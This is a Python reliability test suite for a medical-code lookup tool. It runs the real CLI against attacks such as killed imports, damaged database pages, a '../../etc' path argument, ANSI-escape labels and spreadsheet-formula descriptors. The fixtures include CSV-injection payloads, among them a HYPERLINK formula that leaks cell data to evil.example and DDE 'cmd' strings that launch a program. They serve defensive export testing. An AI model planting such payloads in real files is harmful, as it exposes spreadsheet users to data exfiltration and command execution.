"""The reliability suite: every attack of issue 16, run for real, as a table of attack -> expected -> observed.

Run from the project root:  .venv/bin/python benchmarks/reliability.py [--only WORD] [--markdown]

Each attack runs the real `medcode` / `medcode-gui` in child processes against a temporary database (built from
the starter data and, for some attacks, the 2019 CMS release in ../shared/data), and measures what a user would
meet: the exit status, the first line of the message, wall time and the child's peak memory (os.wait4). The
window's behaviour under attack (an import by another process, a refused note, a read-only user database, a
damaged page met by a search, rich text in imported descriptors) is proved by pytest-qt tests; those rows run
the named tests and report whether they passed. The exit status is the number of failed rows (0: all passed).
"""

from __future__ import annotations

import argparse
import csv
import io
import os
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests"))  # the hostile file generators the tests use

from common import DATA  # noqa: E402

MEDCODE = [sys.executable, "-m", "medcode_gui"]
ZIP_2019 = DATA / "hcpcs" / "zips" / "2019-Alpha-Numeric-HCPCS-File.zip"
ZIP_2018 = DATA / "hcpcs" / "zips" / "2018-Alpha-Numeric-HCPCS-File.zip"
MEMORY_LIMIT_MB, TIME_LIMIT_S = 300, 10  # the bound on a refused hostile file


@dataclass
class Run:
    """One finished child process, as a user meets it."""

    status: int
    out: str
    err: str
    seconds: float
    peak_mb: float

    @property
    def message(self) -> str:
        """The first non-empty line the user reads (stderr first: errors go there)."""
        lines = [line for line in (self.err + "\n" + self.out).splitlines() if line.strip()]
        return lines[0].strip() if lines else ""

    @property
    def traceback(self) -> bool:
        return "Traceback (most recent call last)" in self.err + self.out


@dataclass
class Row:
    attack: str
    expected: str
    observed: str = ""
    passed: bool = False


def run(args: list[str], db: Path | None = None, timeout: float = 120, stdin: bytes = b"", **env: str) -> Run:
    """Run a child, measuring its wall time and peak memory; killed (and reported as status -9) after timeout."""
    environment = dict(os.environ, QT_QPA_PLATFORM="offscreen", **env)
    if db is not None:
        environment["MEDCODE_DB"] = str(db)
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        start = time.perf_counter()
        child = subprocess.Popen(args, stdin=subprocess.PIPE, stdout=out, stderr=err, env=environment)
        killer = threading.Timer(timeout, child.kill)
        killer.start()
        try:
            child.stdin.write(stdin)
            child.stdin.close()
        except BrokenPipeError:
            pass
        status, peak_mb = _wait(child)
        killer.cancel()
        seconds = time.perf_counter() - start
        out.seek(0)
        err.seek(0)
        return Run(status, out.read().decode(errors="replace"), err.read().decode(errors="replace"), seconds, peak_mb)


def _wait(child: subprocess.Popen) -> tuple[int, float]:
    """The child's exit status and peak RSS in MB (0 where the platform has no os.wait4)."""
    if not hasattr(os, "wait4"):
        return child.wait(), 0.0
    _, status, usage = os.wait4(child.pid, 0)
    child.returncode = os.waitstatus_to_exitcode(status)
    return child.returncode, usage.ru_maxrss / 1024  # kilobytes on Linux


def medcode(*args: str, db: Path | None = None, **kwargs) -> Run:  # noqa: ANN003
    return run([*MEDCODE, *args], db=db, **kwargs)


def one_sentence(result: Run) -> bool:
    """A refusal as the issue asks for it: non-zero exit, a message, no traceback."""
    return result.status not in (0, -9) and bool(result.message) and not result.traceback


def described(result: Run) -> str:
    return f"exit {result.status}, {result.seconds:.1f} s, {result.peak_mb:.0f} MB: {result.message[:110]}"


# Databases ----------------------------------------------------------------------------------------------


def starter_db(folder: Path) -> Path:
    db = folder / "reference.sqlite"
    result = medcode("releases", db=db)
    if result.status != 0:
        raise SystemExit(f"Cannot create a starter database: {result.message}")
    return db


def db_with_2019(folder: Path) -> Path:
    db = starter_db(folder)
    result = medcode("import", str(ZIP_2019), db=db)
    if result.status != 0:
        raise SystemExit(f"Cannot import {ZIP_2019.name}: {result.message}")
    return db


def integrity(db: Path) -> str:
    conn = sqlite3.connect(db)
    try:
        return conn.execute("PRAGMA integrity_check").fetchone()[0]
    finally:
        conn.close()


def release_labels(db: Path) -> list[str]:
    conn = sqlite3.connect(db)
    try:
        return [row[0] for row in conn.execute("SELECT label FROM releases ORDER BY id")]
    finally:
        conn.close()


# The attacks --------------------------------------------------------------------------------------------

Attack = Callable[[Path], Row]
ATTACKS: list[Attack] = []


def attack(function: Attack) -> Attack:
    ATTACKS.append(function)
    return function


def big_csv(folder: Path, wanted: int = 100_000) -> Path:
    """A custom list of 100,000 valid CPT and Level II codes: a long import (seconds of one write transaction)."""
    from medcode_gui.codes.explain import explain

    words = ["injection", "catheter", "wheelchair", "oxygen", "supply", "each", "dressing", "sterile", "pump"]
    candidates = [f"{n:05d}" for n in range(100, 100_000)] + [f"{c}{n:04d}" for c in "AEGJKL" for n in range(10_000)]
    path = folder / "big_2020.csv"
    with path.open("w", encoding="utf-8") as out:
        out.write("code,description\n")
        written = 0
        for number, code in enumerate(candidates):
            if written < wanted and explain(code)["valid"]:
                out.write(f"{code},{words[number % 9]} {words[number % 7]} number {number}\n")
                written += 1
    return path


@attack
def readers_during_import(folder: Path) -> Row:
    row = Row("search, lookup, releases while another process imports", "each answers (exit 0) within 2 s")
    db = starter_db(folder)
    importer = subprocess.Popen(
        [*MEDCODE, "import", str(big_csv(folder))],
        env=dict(os.environ, MEDCODE_DB=str(db)),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    during: list[Run] = []
    while importer.poll() is None:
        for command in (["search", "wheelchair"], ["lookup", "E0100"], ["releases"]):
            answer = medcode(*command, db=db)
            if importer.poll() is None:  # only answers given while the import was still writing count
                during.append(answer)
    importer.wait()
    slowest = max((a.seconds for a in during), default=0.0)
    failed = [a for a in during if a.status != 0]
    labels = release_labels(db)
    row.observed = (
        f"{len(during)} commands during the import, {len(failed)} failed, slowest {slowest:.2f} s "
        f"(process start included); releases after: {', '.join(labels)}"
    )
    row.passed = len(during) >= 3 and not failed and slowest < 2 and importer.returncode == 0
    if failed:
        row.observed += f"; first failure: {failed[0].message[:80]}"
    return row


@attack
def killed_imports(folder: Path) -> Row:
    row = Row("kill -9 during an import, 8 times at spread moments", "database whole, releases as before")
    base = db_with_2019(folder)
    before = release_labels(base)
    timing = medcode("import", str(ZIP_2018), db=folder / "timing.sqlite")
    outcomes = []
    for attempt in range(8):
        db = folder / f"attempt-{attempt}.sqlite"
        shutil.copyfile(base, db)
        importer = subprocess.Popen(
            [*MEDCODE, "import", str(ZIP_2018)], env=dict(os.environ, MEDCODE_DB=str(db)), stdout=subprocess.DEVNULL
        )
        try:
            importer.wait(timeout=timing.seconds * (attempt + 1) / 9)
        except subprocess.TimeoutExpired:
            importer.kill()
            importer.wait()
            outcomes.append((integrity(db), release_labels(db)))
    whole = sum(1 for check, labels in outcomes if check == "ok" and labels == before)
    row.observed = f"{len(outcomes)} imports killed mid-way, {whole} left the database whole with {before}"
    row.passed = bool(outcomes) and whole == len(outcomes)
    return row


@attack
def hostile_cli_arguments(folder: Path) -> Row:
    row = Row("hostile CLI input: invalid UTF-8 on search --stdin, level-one --section ../../etc", "one sentence each")
    db = starter_db(folder)
    results = [
        medcode("search", "--stdin", db=db, stdin=b"whe\xff\xfeelchair\n"),
        medcode("level-one", "--section", "../../etc", db=db),
    ]
    row.observed = " | ".join(described(r) for r in results)
    row.passed = all(one_sentence(r) for r in results)
    return row


@attack
def hostile_labels(folder: Path) -> Row:
    row = Row("release labels with a newline, an ANSI escape, 20,000 characters", "each refused in one sentence")
    db = starter_db(folder)
    labels = ["HCPCS\n2019", "HCPCS-\x1b[31m2019", "H" * 20_000]
    results = [medcode("import", str(ZIP_2019), "--label", label, db=db) for label in labels]
    row.observed = " | ".join(described(r) for r in results)
    row.passed = all(one_sentence(r) for r in results) and release_labels(db) == release_labels(starter_db(folder))
    return row


def damage_pages(db: Path, fractions: tuple[float, ...] = (0.3, 0.45, 0.6, 0.75)) -> None:
    """Overwrite a 4 KB page at each fraction of the file with random bytes (the header page stays valid)."""
    size = db.stat().st_size
    with db.open("r+b") as handle:
        for fraction in fractions:
            handle.seek(max(4096, int(size * fraction) // 4096 * 4096))
            handle.write(os.urandom(4096))


@attack
def damaged_pages(folder: Path) -> Row:
    row = Row(
        "a database with damaged pages inside: searches, lookups, import, the window's smoke test",
        "each answers as the whole file does, or says in one sentence the file is damaged; import refuses",
    )
    whole = db_with_2019(folder)
    queries = [["search", "wheelchair"], ["search", "injection"], ["lookup", "J1100"], ["search", "E01*"]]
    expected = [medcode(*query, db=whole).out for query in queries]
    damaged = folder / "damaged.sqlite"
    shutil.copyfile(whole, damaged)
    damage_pages(damaged)
    answers = [medcode(*query, db=damaged) for query in queries]
    silent = [q for q, a, e in zip(queries, answers, expected, strict=True) if a.status == 0 and a.out != e]
    loud = [a for a in answers if a.status != 0]
    imported = medcode("import", str(ZIP_2018), db=damaged)
    smoke = run([sys.executable, "-m", "medcode_gui.gui.app", "--db", str(damaged), "--smoke-test"])
    row.observed = (
        f"{len(queries)} reads: {len(answers) - len(loud) - len(silent)} answered as the whole file, "
        f"{len(loud)} said {loud[0].message[:70] if loud else '-'!r}, {len(silent)} answered wrongly; "
        f"import: {described(imported)}; smoke test: {described(smoke)}"
    )
    row.passed = (
        not silent
        and all(one_sentence(a) for a in loud)
        and one_sentence(imported)
        and not smoke.traceback
        and (smoke.status == 0 or one_sentence(smoke))  # the smoke test may not meet a damaged page
    )
    return row


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"]
EVIL_CODES = ["K0801", "K0802", "K0803", "K0804"]


def evil_release(folder: Path, name: str, suffix: str) -> Path:
    """A custom code list whose descriptors are spreadsheet formulas (each differs by suffix between releases)."""
    path = folder / name
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["code", "description"])
        writer.writerows([code, formula + suffix] for code, formula in zip(EVIL_CODES, FORMULAS, strict=True))
    return path


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV text a spreadsheet would run as a formula (a plain number like -0.5 is not one)."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@attack
def formulas_in_exports(folder: Path) -> Row:
    row = Row("descriptors that are spreadsheet formulas, in every CSV export", "no cell a spreadsheet would run")
    db, user = starter_db(folder), {"MEDCODE_USER_DB": str(folder / "user.sqlite")}
    for label, day, suffix in (("EVIL-1", "2020-01-01", ""), ("EVIL-2", "2020-02-01", " changed")):
        path = evil_release(folder, f"{label}.csv", suffix)
        medcode("import", str(path), "--label", label, "--effective", day, db=db)
    medcode("list", "create", "evil", db=db, **user)
    medcode("list", "add", "evil", *EVIL_CODES, db=db, **user)
    exports = {
        "list export": medcode("list", "export", "evil", db=db, **user),
        "compare --csv": medcode("compare", *EVIL_CODES, "--csv", db=db),
        "diff --csv": medcode("diff", "EVIL-1", "EVIL-2", "--csv", db=db),
    }
    found = {name: formula_cells(result.out) for name, result in exports.items()}
    evil_seen = {name: sum(formula[1:8] in result.out for formula in FORMULAS) for name, result in exports.items()}
    row.observed = "; ".join(
        f"{name}: exit {exports[name].status}, {evil_seen[name]} formulas exported, {len(cells)} left live"
        for name, cells in found.items()
    )
    row.passed = all(exports[name].status == 0 and evil_seen[name] and not cells for name, cells in found.items())
    return row


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", help="run only the attacks whose name contains this word")
    parser.add_argument("--markdown", action="store_true", help="print the table as Markdown (for docs/)")
    options = parser.parse_args()
    rows = []
    for function in ATTACKS:
        if options.only and options.only not in function.__name__:
            continue
        with tempfile.TemporaryDirectory(prefix="medcode-attack-") as folder:
            started = time.perf_counter()
            try:
                row = function(Path(folder))
            except Exception as error:  # an attack that cannot even run is a failed row, not a crash of the suite
                row = Row(function.__name__, "", f"the attack could not run: {error!r}", False)
            seconds = time.perf_counter() - started
            print(f"{'PASS' if row.passed else 'FAIL'}  {row.attack}  ({seconds:.0f} s)", flush=True)
            rows.append(row)
    print_table(rows, options.markdown)
    return sum(not row.passed for row in rows)


def print_table(rows: list[Row], markdown: bool) -> None:
    print()
    if markdown:
        print("| attack | expected | observed | |\n|---|---|---|---|")
        for row in rows:
            print(f"| {row.attack} | {row.expected} | {row.observed} | {'pass' if row.passed else 'FAIL'} |")
        return
    for row in rows:
        verdict = "pass" if row.passed else "FAIL"
        print(f"{verdict}: {row.attack}\n    expected: {row.expected}\n    observed: {row.observed}")


if __name__ == "__main__":
    raise SystemExit(main())
